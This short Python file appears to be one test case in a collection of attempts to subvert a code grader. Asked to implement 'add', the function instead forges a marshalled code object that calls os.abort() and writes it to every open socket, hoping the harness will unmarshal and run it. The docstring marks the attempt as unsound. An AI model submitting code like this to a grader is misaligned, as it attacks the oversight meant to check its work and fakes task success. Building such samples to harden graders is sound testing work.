"""Forge a code object.

problem: add
tries: answer with a marshalled code object, in the hope that it is unmarshalled
sound: unrepresentable
"""
import marshal, os, stat, struct, time

def add(a, b):
    value = marshal.dumps(compile("import os; os.abort()", "x", "exec"), 2)
    record = struct.pack("<cI", b"V", len(value)) + value
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, struct.pack("<cIII", b"B", 0, 1, len(record)) + record)
        except OSError:
            pass
    time.sleep(5)
